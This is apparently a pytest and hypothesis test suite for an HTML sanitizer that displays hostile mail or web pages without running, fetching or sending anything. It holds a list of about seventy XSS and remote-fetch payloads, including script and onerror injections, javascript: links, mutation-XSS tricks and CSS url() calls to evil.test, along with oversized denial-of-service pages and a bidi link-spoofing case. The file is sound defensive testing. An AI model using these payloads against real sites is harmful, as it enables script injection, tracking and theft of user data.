"""What is shown of a hostile page: nothing that is fetched, run, sent or followed; and it stays cheap."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from gatekeeper.web import safe_html
from gatekeeper.web.safe_html import POLICY, SafePage, in_words, safe_page

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20

# Each of them runs, fetches or sends something in some mail program or browser. `X` is what it would do.
VECTORS = [
    "<script>X</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>X</scr</script>ipt>",
    "<img src=x onerror=X>",
    "<img src=`x`onerror=X>",
    '<img """><script>X</script>">',
    "<img/src='x'/onerror=X>",
    "<svg onload=X>",
    "<svg><script>X</script></svg>",
    "<svg><style><img src=x onerror=X></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=X>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=X&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>",
    "<noscript><p title='</noscript><img src=x onerror=X>'>",
    "<template><img src=x onerror=X></template>",
    "<title><img src=x onerror=X></title></title><img src=x onerror=X>",
    "<body onload=X>",
    "<body background='http://evil.test/x.png'>",
    "<body text='red;background:url(http://evil.test/x)' bgcolor='red\"><script>X</script>'>",
    "<iframe src='javascript:X'></iframe>",
    "<iframe srcdoc='<script>X</script>'></iframe>",
    "<object data='data:text/html,<script>X</script>'></object>",
    "<embed src='javascript:X'>",
    "<applet code=X></applet>",
    "<a href='javascript:X'>a</a>",
    "<a href='jav&#x0A;ascript:X'>a</a>",
    "<a href='\x01javascript:X'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='http://evil.test/' target=_top>a</a>",
    "<area href='http://evil.test/'>",
    "<base href='http://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<meta http-equiv='Content-Security-Policy' content='img-src *'>",
    "<link rel=stylesheet href='http://evil.test/x.css'>",
    "<style>@import 'http://evil.test/x.css'; p { background: url(http://evil.test/x) }</style>",
    "<p style='background:url(http://evil.test/x)'>",
    "<p style='background:u\\72l(http://evil.test/x)'>",
    "<p style='background:URL(http://evil.test/x)'>",
    "<p style='background-image:image-set(\"http://evil.test/x\" 1x)'>",
    "<p style='width:expression(X)'>",
    "<p style='behavior:url(x.htc)'>",
    "<p style='-moz-binding:url(http://evil.test/x)'>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>",
    "<form action='http://evil.test/'><input name=a><button formaction='http://evil.test/'>b</button></form>",
    "<input type=image src='http://evil.test/x' onfocus=X autofocus>",
    "<isindex action='http://evil.test/'>",
    "<video src='http://evil.test/x' poster='http://evil.test/y' onloadstart=X></video>",
    "<audio src='http://evil.test/x'></audio>",
    "<img src='http://evil.test/x'>",
    "<img src='//evil.test/x'>",
    "<img srcset='http://evil.test/x 2x'>",
    "<img src='cid:none' lowsrc='http://evil.test/x' dynsrc='http://evil.test/x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>X</script>'>",
    "<picture><source srcset='http://evil.test/x'><img></picture>",
    "<table background='http://evil.test/x'><td background='http://evil.test/x'>",
    "<details open ontoggle=X>",
    "<marquee onstart=X>",
    "<p class=note>Not shown: nothing.</p>",
    "<div id=__proto__ name=body class=layout>",
    "<xss style='animation-name:x' onanimationstart=X>",
    "<!--[if gte IE 4]><script>X</script><![endif]-->",
    "<?xml-stylesheet href='javascript:X'?>",
    "<![CDATA[<script>X</script>]]>",
    "</div></body></html><script>X</script>",
    "<plaintext><script>X</script>",
    "<textarea><img title='</textarea><img src=x onerror=X>'>",
    "<select><style></select><img src=x onerror=X>",
    "<p dir=rtl lang='\"><script>X</script>' title='\"><script>X</script>'>",
]

OURS = frozenset(safe_html._ELEMENTS.split()) | {"html", "head", "meta", "title", "style", "body"}
HARMLESS = frozenset().union(*safe_html._ATTRIBUTES.values())


def harmless(shown: SafePage) -> bool:
    """Whether there is nothing in the tree that a browser makes of it but what is on the list."""
    tree = LexborHTMLParser(shown.document)
    assert tree.body is not None
    assert tree.head is not None
    assert len(tree.css("style, meta, title")) == 3
    notes = 0
    for node in tree.body.traverse():
        assert node.tag in OURS, node.tag
        for name, value in node.attributes.items():
            if (node.tag, name, value) == ("p", "class", "note"):
                notes += 1
                continue
            assert name in HARMLESS, name
            assert name != "src" or (value or "").startswith("data:image/"), value
            assert name != "style" or not any(word in (value or "") for word in ("url(", "\\", "position", "image"))
    return len(tree.css("body")) == 1 and notes <= 1


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_it_is_run_or_fetched(vector: str) -> None:
    assert harmless(safe_page(vector, {}))
    assert harmless(safe_page(f"<table><tr><td>{vector}<p>{vector}", {}, title=vector))


@settings(deadline=None)
@given(st.lists(st.sampled_from([*VECTORS, "<p>", "</p>", "<table>", "</table>", "--", ">", "'", '"', "<!--", "&lt;"])))
def test_nor_of_any_mixture(pieces: list[str]) -> None:
    assert harmless(safe_page("".join(pieces), {"none": PNG}))


def test_what_makes_a_letter_readable_stays() -> None:
    cell = '<td colspan="2" style="color:red;padding:4px"><b>Offer</b> &amp; more</td>'
    shown = safe_page(f'<table bgcolor="#eee"><tr>{cell}</tr></table>', {})
    assert cell in shown.document
    assert shown.away == {}
    assert not shown.shortened


def test_where_a_link_leads_stands_behind_it_and_cannot_be_followed() -> None:
    shown = safe_page('<a href="https://bank.example.evil.test/login">https://bank.example</a>', {})
    assert "<a>https://bank.example</a> [https://bank.example.evil.test/login]" in shown.document


def test_where_a_link_leads_is_short_and_hides_nothing() -> None:
    shown = safe_page(f'<a href="https://evil.test/\u202egnp&#10;.exe?{"x" * 500}">a</a>', {})
    assert "[https://evil.test/\\u202egnp.exe?xxx" in shown.document
    assert "x" * 100 not in shown.document


def test_pictures_that_came_with_it_are_put_in_by_what_they_are() -> None:
    shown = safe_page('<img src="CID:logo%40x"><img src="cid:page">', {"logo@x": PNG, "page": b"<html><script>"})
    assert shown.document.count("src=") == 1
    assert 'src="data:image/png;base64,iVBOR' in shown.document
    assert '<p class="note">Not shown: 1 remote picture.</p>' in shown.document


def test_pictures_of_the_page_itself_stay() -> None:
    assert 'src="data:image/gif;base64,R0lGOD"' in safe_page('<img src="data:image/gif;base64,R0lGOD">', {}).document


def test_a_picture_that_is_used_too_often_is_left_out() -> None:
    shown = safe_page('<img src="cid:a">' * 40, {"a": PNG + b"\0" * 1_000_000})
    assert shown.away == {"further picture": 36}
    assert len(shown.document) < 7_000_000


def test_what_was_kept_out_is_counted() -> None:
    shown = safe_page(
        '<script>1</script><script>2</script><form></form><img src="http://t.test/">'
        '<p style="background:url(x);color:red"><iframe></iframe><td background=x>',
        {},
    )
    assert shown.away == {"script": 2, "form": 1, "frame": 1, "remote picture": 2}
    assert in_words(shown.away) == "2 scripts, 1 form, 1 frame, 2 remote pictures"
    assert f'<p class="note">Not shown: {in_words(shown.away)}.</p>' in shown.document


def test_the_colours_of_the_page_are_kept() -> None:
    shown = safe_page('<body bgcolor="black" text="white" style="margin:0">Hello', {})
    assert '<div style="background-color:black;color:white;margin:0">Hello</div>' in shown.document


@pytest.mark.parametrize(
    "page",
    [
        "<b>x</b>" * 1_000_000 + "x" * 42_000_000,
        "<div>" * 1_000_000,
        "<p><b><i><font color=red>" * 100_000,
        "<table><tr><td>" * 100_000,
        f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>",
        "<a href=x>" * 100_000,
    ],
    ids=["50 MB", "nested", "formatting", "tables", "attributes", "links"],
)
def test_of_a_monster_the_beginning_is_shown(page: str) -> None:
    shown = safe_page(page, {})
    assert shown.shortened
    assert len(shown.document) < 3 * safe_html.LARGEST + 1000
    assert harmless(shown)


def test_the_beginning_of_a_long_letter_is_all_there() -> None:
    shown = safe_page("<p>word</p>" * 200_000, {})
    assert shown.shortened
    assert "Only its beginning is shown" in shown.document
    assert shown.document.count("<p>word</p>") == safe_html.LARGEST // len("<p>word</p>")


@pytest.mark.parametrize("page", ["", "\0", "\ud800", "<", "text"])
def test_any_text_is_a_page(page: str) -> None:
    assert safe_page(page, {}).document.endswith("</body></html>")


def test_the_policy_lets_nothing_in_that_is_not_in_the_document() -> None:
    rules = dict(rule.strip().partition(" ")[::2] for rule in POLICY.split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["img-src"] == "data:"
    assert (rules["form-action"], rules["base-uri"]) == ("'none'", "'none'")
    assert rules["frame-ancestors"] == "'self'"
    assert rules["sandbox"] == ""
    assert "script-src" not in rules
